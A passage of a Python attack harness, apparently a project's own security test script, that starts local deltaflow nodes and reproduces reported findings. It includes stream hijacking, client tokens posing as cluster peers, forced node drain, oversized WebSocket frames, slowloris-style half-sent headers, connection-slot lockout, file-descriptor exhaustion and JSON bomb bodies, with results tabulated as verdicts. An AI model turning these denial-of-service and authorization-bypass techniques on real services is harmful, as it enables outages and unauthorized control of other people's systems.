        self.proc: asyncio.subprocess.Process | None = None

    async def start(self) -> None:
        self.proc = await asyncio.create_subprocess_exec(
            *self._args,
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.DEVNULL,
            env=self._bench.env,
            cwd=self._bench.work,
        )

    async def line(self, prefix: str, timeout: float) -> str:
        assert self.proc is not None and self.proc.stdout is not None
        async with asyncio.timeout(timeout):
            while line := (await self.proc.stdout.readline()).decode():
                if line.startswith(prefix):
                    return line[len(prefix) :].strip()
        raise Refused(f"the victim exited without {prefix!r}")

    def go_on(self) -> None:
        assert self.proc is not None and self.proc.stdin is not None
        self.proc.stdin.write(b"go\n")

    async def stop(self) -> None:
        if self.proc is not None and self.proc.returncode is None:
            self.proc.kill()
            await self.proc.wait()


def victim_rows(path: Path) -> int:
    from deltalake import DeltaTable

    if not (path / "_delta_log").exists():
        return 0
    table = DeltaTable(str(path)).to_pyarrow_table(columns=["id", "kind"]).to_pydict()
    return len({i for i, k in zip(table["id"], table["kind"], strict=True) if k == "victim"})


async def stream_hijack(bench: Bench, rows: int = 6000, pause_at: int = 2000) -> None:
    """5. A second connection opens the victim's stream id and jumps its lanes to 10**6."""
    f = "5 stream hijack"
    sid, partitions, jump = "victim-" + secrets.token_hex(4), 4, 10**6
    node = Node(bench, "n5", token_file=bench.token_file, partitions=partitions)
    await node.start()
    victim = Victim(bench, node, sid, rows, pause_at)
    try:
        await victim.start()
        paused = await victim.line("PAUSED ", 60)
        answers: list[dict[str, Any]] = []
        refusal = ""
        async with aiohttp.ClientSession() as session:
            wire = await Wire.connect(session, node.address)
            try:
                await hello(wire, bench.token)
                await open_stream(wire, bench, sid, {"table": "victim", "key": ["id"]})
                for p in range(partitions):
                    row = {"id": 10**9 + p, "kind": "attacker"}
                    await wire.send(batch(sid, p, jump, 1, base=jump, items=items(row)))
                answers.extend([await wire.answer(sid, jump, 30) for _ in range(partitions)])
            except (Refused, TimeoutError) as exc:
                refusal = str(exc) or type(exc).__name__
            finally:
                await wire.close()
        jumped = sum(a.get("t") == "ack" for a in answers)
        last = refusal or (describe(answers[-1]) if answers else "no answer")
        bench.add(
            f,
            f"victim's stream id opened by another connection, seq=base={jump}",
            f"{jumped} of {partitions} lanes acked ({_short(last, 90)})",
            f"attacker jumped {jumped} lanes" if jumped else "refused",
        )
        victim.go_on()
        done = json.loads(await victim.line("DONE ", 90))
        in_table = victim_rows(node.warehouse / "victim")
        bench.add(
            f,
            f"victim rows acked / in the table (paused at {paused} acked)",
            f"{done.get('acked')} acked / {in_table} of {rows} in the table"
            + (f"; victim error: {_short(done['error'], 80)}" if "error" in done else ""),
            f"attacker got {rows - in_table} rows lost" if in_table < rows else "refused",
        )
        await node.stop()
        node = Node(
            bench,
            "n5",
            token_file=bench.token_file,
            partitions=partitions,
            port=node.port,
            warehouse=node.warehouse,
        )
        await node.start()
        replay = Victim(bench, node, sid, rows, rows)
        await replay.start()
        done = json.loads(await replay.line("DONE ", 90))
        in_table = victim_rows(node.warehouse / "victim")
        bench.add(
            f,
            "after a node restart, a replay with the same stream id",
            f"{done.get('acked')} acked / {in_table} of {rows} in the table",
            f"attacker got {rows - in_table} rows lost" if in_table < rows else "refused",
        )
    finally:
        await victim.stop()
        await node.stop()


async def clients_as_peers(bench: Bench, invented: int = 200) -> None:
    """6. With the client token: ``/v1/leave`` for a live node, invented peers, ``/v1/drain``."""
    f = "6 client acts as a peer"
    ports = _free_port(), _free_port()
    one, two = (
        Node(
            bench,
            f"e{i + 1}",
            token_file=bench.token_file,
            port=ports[i],
            peers=[f"{HOST}:{ports[1 - i]}"],
            warehouse=bench.work / "wh-e",
        )
        for i in range(2)
    )
    listener = Listener()
    try:
        await one.start()
        await two.start()
        deadline = time.monotonic() + 30
        while len((await cluster_view(bench, one)).get("map", {}).get("nodes", {})) < 2:
            if time.monotonic() > deadline:
                bench.add(f, "2-node cluster formed", "no (30 s)", "not measured")
                return
            await asyncio.sleep(0.2)
        before = owners_of(await cluster_view(bench, one), "e2")
        offset = one.log_size()
        status, body = await http(
            "POST",
            f"http://{one.address}/v1/leave",
            headers={**bench.bearer, "X-Deltaflow-Peer": f"e2@{two.address}"},
        )
        after = owners_of(await cluster_view(bench, one), "e2")
        logged = [x for x in one.log_since(offset).decode(errors="replace").splitlines() if x]
        bench.add(
            f,
            "POST /v1/leave as e2 (live) to e1: e2's partitions in e1's map",
            f"HTTP {status} {_short(body, 60)}; {before} -> {after} of 8; {len(logged)} log lines",
            "attacker got e2 pushed out" if after < before else "refused",
        )

        await listener.start(invented)
        peers = [f"ghost{i}@{HOST}:{port}" for i, port in enumerate(listener.ports)]
        limit = asyncio.Semaphore(20)

        async def claim(peer: str) -> int:
            async with limit:
                headers = {**bench.bearer, "X-Deltaflow-Peer": peer}
                return (await http("GET", f"http://{one.address}/v1/cluster", headers=headers))[0]

        statuses = await asyncio.gather(*(claim(p) for p in peers))
        await asyncio.sleep(3)
        view = await cluster_view(bench, one)
        members = len(view["members"]) if isinstance(view.get("members"), list) else None
        polled = {port for port, *_ in listener.requests}
        carried = listener.secrets_seen(bench.token, bench.peer_token)
        bench.add(
            f,
            f"{invented} GET /v1/cluster with invented X-Deltaflow-Peer: members of e1",
            f"{'not shown' if members is None else members} (answers: {sorted(set(statuses))})",
            f"attacker grew the member list to {members}" if (members or 0) > 2 else "refused",
        )
        bench.add(
            f,
            "e1 polled addresses of the caller's choosing",
            f"{len(polled)} of {invented} addresses, {len(listener.requests)} requests, "
            f"{len(carried)} carrying a secret",
            (
                f"attacker got polls to {len(polled)} addresses"
                + (" carrying the token" if carried else "")
            )
            if polled
            else "refused",
        )
        await listener.stop()

        started = time.monotonic()
        status, body = await http("POST", f"http://{two.address}/v1/drain", headers=bench.bearer)
        assert two.proc is not None
        with contextlib.suppress(TimeoutError):
            # A refused drain is given a few seconds only: nothing should happen.
            async with asyncio.timeout(20 if 200 <= status < 300 else 3):
                await two.proc.wait()
        stopped = not two.running
        took = f" (exit {two.proc.returncode} after {time.monotonic() - started:.1f} s)"
        bench.add(
            f,
            "POST /v1/drain with the client token",
            f"HTTP {status} {_short(body, 60)}; node stopped: "
            + ("yes" + took if stopped else "no"),
            "attacker got the node stopped" if stopped else "refused",
        )
    finally:
        await listener.stop()
        await two.stop()
        await one.stop()


async def empty_token_file(bench: Bench) -> None:
    """8. ``--token-file`` naming an empty file."""
    f = "8 empty token file"
    empty = bench.work / "empty-token"
    empty.write_text("\n")
    node = Node(bench, "n8", token_file=empty)
    try:
        await node.start()
    except NodeExited as exc:
        bench.add(f, "node started", f"no: {_short(exc, 140)}", "refused")
        return
    try:
        async with aiohttp.ClientSession() as session:
            wire = await Wire.connect(session, node.address)
            try:
                answer = describe(await hello(wire, ""))
            except (Refused, TimeoutError) as exc:
                answer = str(exc)
            finally:
                await wire.close()
        status, _ = await http(
            "GET", f"http://{node.address}/v1/cluster", headers={"Authorization": "Bearer "}
        )
        welcomed = answer.startswith("{'t': 'welcome'")
        bench.add(
            f,
            "node started; hello with token '' / GET /v1/cluster with 'Bearer '",
            f"yes; {'welcome' if welcomed else _short(answer, 60)} / HTTP {status}",
            "attacker got in with the empty token" if welcomed or status == 200 else "refused",
        )
    finally:
        await node.stop()


# -- issue 47 (round 2): a stranger exhausting a node ------------------------------------------
# Keys for --only: a letter per finding of issue 47 (a = #1, c = #3, d = #4).


async def raw_upgrade(
    address: str, source: str, headers: dict[str, str] | None = None
) -> tuple[int, asyncio.StreamReader, asyncio.StreamWriter]:
    """A WebSocket upgrade of ``/v1/stream`` by hand from local address ``source`` (127.0.0.x
    are all loopback on Linux): the answer's status and the open socket."""
    host, port = address.rsplit(":", 1)
    async with asyncio.timeout(10):
        reader, writer = await asyncio.open_connection(host, int(port), local_addr=(source, 0))
        extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
        writer.write(
            f"GET /v1/stream HTTP/1.1\r\nHost: {address}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            f"Sec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\n"
            f"{extra}\r\n".encode()
        )
        head = await reader.readuntil(b"\r\n\r\n")
    return int(head.split(b" ", 2)[1]), reader, writer


_ZEROS = memoryview(bytes(MiB))


async def send_message(writer: asyncio.StreamWriter, size: int, timeout: float) -> int:
    """Send one binary WebSocket message of ``size`` zero bytes (a zero mask, so no copy of
    it is made); the bytes the node took within ``timeout`` seconds."""
    sent = 0
    writer.write(b"\x82\xff" + size.to_bytes(8, "big") + b"\0\0\0\0")
    with contextlib.suppress(TimeoutError, OSError):
        async with asyncio.timeout(timeout):
            while sent < size:
                chunk = _ZEROS[: min(MiB, size - sent)]
                writer.write(chunk)
                await writer.drain()
                sent += len(chunk)
    return sent


def _abort(writer: asyncio.StreamWriter) -> None:
    writer.transport.abort()


async def token_client(bench: Bench, node: Node, source: str) -> str:
    """A client holding the token (in the upgrade and in its hello) from ``source`` opens a
    stream and writes one row: 'ok in N s', or why not."""
    started = time.monotonic()
    sid = "victim-" + secrets.token_hex(6)
    connector = aiohttp.TCPConnector(local_addr=(source, 0))
    async with aiohttp.ClientSession(connector=connector) as session:
        try:
            async with asyncio.timeout(10):
                ws = await session.ws_connect(
                    f"http://{node.address}/v1/stream", headers=bench.bearer, max_msg_size=0
                )
        except aiohttp.WSServerHandshakeError as exc:
            return f"upgrade refused: HTTP {exc.status}"
        except (aiohttp.ClientError, OSError, TimeoutError) as exc:
            return f"no connection: {type(exc).__name__}"
        wire = Wire(ws)
        try:
            await hello(wire, bench.token, client="victim")
            await open_stream(wire, bench, sid, {"table": "victim", "key": ["id"]})
            await wire.send(batch(sid, 0, 0, 1, items=items({"id": 1, "v": "x"})))
            answer = await wire.answer(sid, 0, 30)
        except (Refused, TimeoutError) as exc:
            return _short(str(exc) or type(exc).__name__, 100)
        finally:
            await wire.close()
    if answer.get("t") != "ack":
        return describe(answer)
    return f"ok in {time.monotonic() - started:.2f} s"


async def first_messages(
    bench: Bench, node: Node, count: int = 64, waves: int = 1, hold: float = 8.0
) -> None:
    """a (#1). ``count`` connections from one address, each sending one message just under the
    16 MiB frame limit and never a hello; ``waves`` times, each on top of the last."""
    f = f"a first messages ({waves} x {count})"
    size = 16 * MiB - 64  # under the node's default max_frame_bytes
    sockets: list[asyncio.StreamWriter] = []
    statuses: dict[str, int] = {}
    victims: list[str] = []

    async def one() -> None:
        try:
            status, _, writer = await raw_upgrade(node.address, "127.0.0.2")
        except (OSError, TimeoutError, asyncio.IncompleteReadError) as exc:
            key = type(exc).__name__
        else:
            key = f"HTTP {status}"
            sockets.append(writer)
            if status == 101:
                await send_message(writer, size, 5)
        statuses[key] = statuses.get(key, 0) + 1

    async def attack() -> None:
        for _ in range(waves):
            await asyncio.gather(*(one() for _ in range(count)))
            victims.append(await token_client(bench, node, "127.0.0.3"))
        await asyncio.sleep(hold)  # what the node holds, held

    await token_client(bench, node, "127.0.0.3")  # its table made and the engine warm first
    _, cost = await measured(node, attack(), 60 + 30 * waves)
    for writer in sockets:
        _abort(writer)
    grown = ((cost.peak or 0) - (cost.rss_before or 0)) / 1024
    answers = ", ".join(f"{k}: {v}" for k, v in sorted(statuses.items()))
    bench.add(f, "upgrade answers", answers, "-")
    bench.add(f, "node memory", f"{cost.memory()} (+{grown:.0f} MB)", _grew(cost))
    bench.add(f, "/healthz during", cost.healthz, _stalled(cost))
    bench.add(
        f,
        "a client with the token, after each wave",
        "; ".join(victims),
        "client served" if all(v.startswith("ok") for v in victims) else "client refused",
    )


async def slot_lockout(bench: Bench, node: Node, seconds: float = 25.0) -> None:
    """c (#3). 16 idle WebSockets from 4 addresses, each reopened once the node closes it (the
    hello timeout), while a client with the token connects every 2 s from a fifth address."""
    f = "c handshake slot lockout"
    stop = asyncio.Event()
    opened = 0

    async def squatter(source: str) -> None:
        nonlocal opened
        while not stop.is_set():
            try:
                status, reader, writer = await raw_upgrade(node.address, source)
            except (OSError, TimeoutError, asyncio.IncompleteReadError):
                await asyncio.sleep(0.1)
                continue
            opened += 1
            try:
                if status == 101:
                    with contextlib.suppress(TimeoutError, OSError):
                        async with asyncio.timeout(seconds):
                            await reader.read()  # until the node closes it
                else:
                    await asyncio.sleep(0.2)
            finally:
                _abort(writer)

    async def attack() -> list[str]:
        tasks = [asyncio.create_task(squatter(f"127.0.0.{10 + i // 4}")) for i in range(16)]
        await asyncio.sleep(1)
        results = []
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            results.append(await token_client(bench, node, "127.0.0.20"))
            await asyncio.sleep(2)
        stop.set()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        return results

    results, cost = await measured(node, attack(), seconds + 60)
    if not isinstance(results, list):
        bench.add(f, "attack", _short(results, 120), "not measured")
        return
    served = sum(r.startswith("ok") for r in results)
    refused = [r for r in results if not r.startswith("ok")]
    bench.add(
        f,
        f"client with the token, one try every 2 s for {seconds:.0f} s ({opened} stranger "
        "connections)",
        f"{served} of {len(results)} served"
        + (f"; refused: {_short(refused[0], 90)}" if refused else ""),
        f"attacker locked the client out {len(refused)} times" if refused else "client served",
    )
    bench.add(f, "/healthz during", cost.healthz, _stalled(cost))


HALF_SENT = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "  # no end of the headers


async def _half_sent(address: str, source: str, count: int) -> list[asyncio.StreamReader | None]:
    """``count`` connections from ``source``, each with a request that never ends its headers
    (None where the connection failed)."""
    host, port = address.rsplit(":", 1)
    limit = asyncio.Semaphore(100)

    async def one() -> asyncio.StreamReader | None:
        async with limit:
            try:
                async with asyncio.timeout(5):
                    reader, writer = await asyncio.open_connection(
                        host, int(port), local_addr=(source, 0)
                    )
                writer.write(HALF_SENT)
                await writer.drain()
            except (OSError, TimeoutError):
                return None
            reader.writer = writer  # type: ignore[attr-defined]  # closed by the caller
            return reader

    return list(await asyncio.gather(*(one() for _ in range(count))))


async def _closed_after(reader: asyncio.StreamReader, watch: float, started: float) -> float:
    """Seconds from ``started`` until the node closed (or reset) the connection (inf: still
    open)."""
    try:
        async with asyncio.timeout(max(0.0, started + watch - time.monotonic())):
            while await reader.read(4096):
                pass
    except TimeoutError:
        return float("inf")
    except OSError:
        pass  # reset: closed too
    return time.monotonic() - started


async def half_sent(bench: Bench, node: Node, count: int = 2000, watch: float = 95.0) -> None:
    """d (#4). ``count`` requests that never end their headers, from one address."""
    f = f"d {count} half-sent requests"
    started = time.monotonic()
    readers = await _half_sent(node.address, "127.0.0.30", count)
    live = [r for r in readers if r is not None]
    healthz = await http("GET", f"http://{node.address}/healthz", timeout=5)
    closed = await asyncio.gather(*(_closed_after(r, watch, started) for r in live))
    for r in live:
        _abort(r.writer)  # type: ignore[attr-defined]
    still = sum(t == float("inf") for t in closed)
    within = sorted(t for t in closed if t != float("inf"))
    at_once = sum(t < 5 for t in within)
    bench.add(
        f,
        f"open after {watch:.0f} s",
        f"{still} of {count} ({count - len(live)} failed to connect); closed by the node: "
        f"{len(within)} ({at_once} within 5 s), the last after "
        f"{within[-1] if within else 0:.1f} s; /healthz during: HTTP {healthz[0]}",
        f"attacker held {still} connections {watch:.0f} s" if still else "closed",
    )


async def file_limit(bench: Bench, count: int = 420, nofile: int = 400) -> None:
    """d (#4). A node under an open-file limit of ``nofile``; ``count`` half-sent requests from
    one address; /healthz from another."""
    f = f"d {count} connections under a {nofile} open-file limit"
    node = Node(
        bench,
        "n47d",
        token_file=bench.token_file,
        prefix=["prlimit", f"--nofile={nofile}:{nofile}", "--"],
    )
    await node.start()
    try:
        offset = node.log_size()
        readers = await _half_sent(node.address, "127.0.0.40", count)
        live = [r for r in readers if r is not None]
        answers = []
        for _ in range(10):
            answers.append((await http("GET", f"http://{node.address}/healthz", timeout=2))[0])
            await asyncio.sleep(0.3)
        for r in live:
            _abort(r.writer)  # type: ignore[attr-defined]
        await asyncio.sleep(1)
        after = (await http("GET", f"http://{node.address}/healthz", timeout=5))[0]
        emfile = node.log_since(offset).count(b"Too many open files")
        ok = sum(a == 200 for a in answers)
        bench.add(
            f,
            "/healthz answered (10 tries, 2 s each) while they are open",
            f"{ok} of 10 (answers {sorted(set(answers))}); after: HTTP {after}; "
            f"{len(live)} connected; 'Too many open files' in the log {emfile} times",
            "attacker made /healthz fail" if ok < 10 else "node kept serving",
        )
    finally:
        await node.stop()


# -- issue 47 (round 2): a peer forging another ----------------------------------------------------
# Keys for --only: b = #2.


async def commit_bodies(bench: Bench, node: Node, count: int = 8, parallel: int = 4) -> None:
    """b (47 #2). ``POST /v1/peer/commit`` bodies of ``[{},{},...]`` (8 MiB), no proof."""
    f = "b commit bodies before the proof"
    bomb = b"[" + b"{}," * ((8 * MiB - 16) // 3) + b"{}]"
    url = f"http://{node.address}/v1/peer/commit"
    limit = asyncio.Semaphore(parallel)

    async def one() -> int:
        async with limit:
            return (await http("POST", url, data=bomb, timeout=60))[0]

    async def all_of_them() -> list[int]:
        return await asyncio.gather(*(one() for _ in range(count)))

    statuses, cost = await measured(node, all_of_them(), timeout=120)
    await asyncio.sleep(5)  # what stays: a reference cycle kept the parsed bodies
    later = node.memory()["VmRSS"]
    answers = sorted(set(statuses)) if isinstance(statuses, list) else statuses
    bench.add(
        f,
        f"{count} bodies of 8 MiB, {parallel} at a time, no proof: answers, memory, /healthz",
        f"{answers}; {cost.memory()}, {_mb(later)} 5 s later; {cost.healthz}",
        f"{_grew(cost)}; {_stalled(cost)}",
    )


# -- the run -------------------------------------------------------------------------------------


async def run(bench: Bench, only: set[str], connections: int, bomb_bytes: int) -> None:
    steps: list[tuple[str, Callable[[], Awaitable[None]]]] = []

    async def single_node() -> None:
        async with bench.node("n2", token_file=bench.token_file) as node:
            if "3" in only:
                await guarded(bench, "3", log_forging(bench, node))
            if "8" in only:
                await guarded(bench, "8", idle_connections(bench, node, connections))
            if "7" in only:
                await guarded(bench, "7", table_name_newline(bench, node))
            if "2" in only:
                # Last: it leaves the node bloated.
                await guarded(bench, "2", big_hello(bench, node))

    async def bomb_node() -> None:
        async with bench.node("n4", token_file=bench.token_file) as node:
            await arrow_pages(bench, node, bomb_bytes)

    async def garbled_node() -> None:
        async with bench.node("n9", token_file=bench.token_file) as node:
            await unvalidated_page(bench, node)

    steps.append(("1", lambda: token_to_listed_peer(bench)))
    steps.append(("2378", single_node))
    steps.append(("4", bomb_node))
    steps.append(("5", lambda: stream_hijack(bench)))
    steps.append(("6", lambda: clients_as_peers(bench)))
    steps.append(("8", lambda: empty_token_file(bench)))
    steps.append(("8", garbled_node))

    async def stranger_node() -> None:
        async with bench.node("n47", token_file=bench.token_file) as node:
            if "a" in only:
                await guarded(bench, "a", first_messages(bench, node, 64))
                await guarded(bench, "a", first_messages(bench, node, 96, waves=2))
            if "c" in only:
                await guarded(bench, "c", slot_lockout(bench, node))
            if "d" in only:
                await guarded(bench, "d", half_sent(bench, node))

    steps.append(("acd", stranger_node))
    steps.append(("d", lambda: file_limit(bench)))

    async def peer_node() -> None:
        async with bench.node("n47b", token_file=bench.token_file) as node:
            await commit_bodies(bench, node)

    steps.append(("b", peer_node))
    for keys, step in steps:
        if not only & set(keys):
            continue
        print(f"findings {'/'.join(k for k in keys if k in only)}:", flush=True)
        await guarded(bench, keys, step())


async def guarded(bench: Bench, finding: str, attack: Awaitable[None]) -> None:
    """Run one attack (at most 4 minutes); a failure of its own is a row, never the end."""
    try:
        async with asyncio.timeout(240):
            await attack
    except Exception as exc:  # noqa: BLE001 - one attack's failure must not end the run
        bench.add(finding, "attack failed", _short(f"{type(exc).__name__}: {exc}", 200), "error")


def table(rows: list[Row]) -> Iterator[str]:
    yield "| finding | measured | value | verdict |"
    yield "|---|---|---|---|"
    for r in rows:
        cells = (r.finding, r.measure, r.value, r.verdict)
        yield "| " + " | ".join(c.replace("|", "/") for c in cells) + " |"


def _git(tree: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(tree), *args], capture_output=True, text=True)
    return done.stdout.strip()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "--tree",
        type=Path,
        default=Path(__file__).resolve().parents[1],
        help="the deltaflow checkout the nodes run (default: this one)",
    )
    parser.add_argument(
        "--python",
        default=sys.executable,
        help="the interpreter the nodes run under (default: this one)",
    )
    parser.add_argument("--json", type=Path, help="also write the rows here, as JSON")
    parser.add_argument("--only", default="12345678", help="findings to run, e.g. 24")
    parser.add_argument(
        "--connections",
        type=int,
        default=500,
        help="idle WebSockets for finding 8 (default %(default)s)",
    )
    parser.add_argument(
        "--bomb-gib",
        type=float,
        default=2.0,
        help="what the Arrow page inflates to, GiB (default %(default)s)",
    )
    parser.add_argument(
        "--open-extra",
        default="{}",
        help="JSON fields to add to every open frame (a newer protocol's)",
    )
    parser.add_argument("--keep", action="store_true", help="keep the nodes' directory and logs")
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="deltaflow-attacks-"))
    bench = Bench(args.tree.resolve(), args.python, work, json.loads(args.open_extra))
    where = bench.detect()
    commit = _git(bench.tree, "rev-parse", "--short", "HEAD")
    if _git(bench.tree, "status", "--porcelain", "--untracked-files=no"):
        commit += " with uncommitted changes"
    print(f"tree {bench.tree} (HEAD {commit or '?'}; deltaflow from {where}); work {work}")
    if bench.peer_token_file is not None:
        print("this tree's serve takes --peer-token-file: peers get a secret clients lack")
    started = time.monotonic()
    try:
        asyncio.run(run(bench, set(args.only), args.connections, int(args.bomb_gib * 2**30)))
    finally:
        if not args.keep:
            shutil.rmtree(work, ignore_errors=True)
    print(f"\n{len(bench.rows)} rows in {time.monotonic() - started:.0f} s\n")
    print("\n".join(table(bench.rows)))
    if args.json is not None:
        report = {
            "tree": str(bench.tree),
            "head": commit,
            "peer_token": bench.peer_token_file is not None,
            "seconds": round(time.monotonic() - started, 1),
            "rows": [asdict(r) for r in bench.rows],
        }
        args.json.write_text(json.dumps(report, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
